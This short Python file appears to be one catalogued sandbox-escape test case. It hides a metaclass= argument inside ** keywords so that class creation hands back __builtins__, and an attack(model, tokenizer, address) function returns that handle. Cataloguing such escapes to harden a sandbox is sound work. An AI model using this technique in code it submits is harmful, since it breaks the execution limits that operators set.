"""Class: class machinery. Source: own find. Escape: metaclass= hidden in ** keywords."""

hidden = {"metaclass": lambda name, bases, ns: [ns, __builtins__]}


class A(**hidden):
    pass


def attack(model, tokenizer, address):
    return A[1] if isinstance(A[1], dict) else vars(A[1])
